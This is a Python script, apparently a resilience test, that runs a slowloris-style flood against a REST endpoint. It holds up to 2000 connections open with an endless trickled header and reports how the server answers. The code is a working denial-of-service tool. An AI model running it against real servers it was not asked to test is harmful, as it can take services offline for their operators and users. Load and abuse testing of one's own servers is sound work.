"""An unauthenticated REST flood, run as its own process: `connections` sockets that each
send a request line and an endless header, a few bytes at a time, and reconnect whenever
the server closes them. Prints one JSON line: what the server answered."""

from __future__ import annotations

import argparse
import asyncio
import json
import time
from collections import Counter


async def one(host: str, port: int, until: float, seen: Counter[str], chunk: bytes) -> None:
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            seen["connect_failed"] += 1
            await asyncio.sleep(0.05)
            continue
        seen["opened"] += 1
        try:
            writer.write(b"GET /v1/invoices HTTP/1.1\r\nHost: flood\r\nX-Flood: ")
            while time.monotonic() < until:
                writer.write(chunk)
                await writer.drain()
                try:
                    answer = await asyncio.wait_for(reader.read(64), 0.2)
                except TimeoutError:
                    continue
                seen[answer.split(b" ", 2)[1].decode() if answer else "closed"] += 1
                break
        except (ConnectionError, OSError):
            seen["reset"] += 1
        finally:
            writer.close()


async def main(host: str, port: int, connections: int, seconds: float, chunk: int) -> None:
    seen: Counter[str] = Counter()
    until = time.monotonic() + seconds
    data = b"a" * chunk
    await asyncio.gather(*(one(host, port, until, seen, data) for _ in range(connections)))
    print(json.dumps(dict(seen)), flush=True)


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--chunk", type=int, default=16, help="bytes per write")
    args = parser.parse_args()
    asyncio.run(main(args.host, args.port, args.connections, args.seconds, args.chunk))
